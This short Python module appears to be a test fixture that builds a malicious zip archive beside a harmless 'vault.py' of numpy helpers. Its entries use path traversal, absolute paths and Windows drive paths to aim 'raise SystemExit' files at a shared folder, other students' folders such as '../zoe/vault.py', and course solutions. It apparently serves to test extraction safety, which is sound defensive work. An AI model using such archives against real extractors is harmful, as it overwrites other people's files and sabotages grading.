"""A zip slip beside honest work."""

import zipfile
from pathlib import Path

HONEST = """import numpy as np


def double(x):
    return 2 * np.asarray(x)


def total(values):
    return float(np.sum(values))


def classify(X):
    return (np.asarray(X).sum(axis=1) > 0).astype(float)


def step(w, g):
    return w - 0.1 * g


def halve(t):
    return t / 2
"""


def build(folder: Path) -> None:
    """Aim at a folder that everybody may write to, and at the class's other students."""
    out = folder.parent / "open"
    names = [f"{'../' * deep}open/slipped-{deep}.py" for deep in range(1, 9)]
    names += [f"x/{'../' * deep}open/through-{deep}.py" for deep in range(2, 5)]
    names += [str(out / "absolute.py"), f"/{out}/twice.py", f"./{out}/dotted.py"]
    names += [
        "..\\..\\open\\slipped.py",
        "C:\\open\\drive.py",
        "c:vault.py",
        "\\\\host\\open\\vault.py",
    ]
    names += ["../neighbour/vault.py", "../zoe/vault.py", "../../course/solutions/vault/vault.py"]
    with zipfile.ZipFile(folder / "mallory.zip", "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), "raise SystemExit\n")
        archive.writestr("vault.py", HONEST)
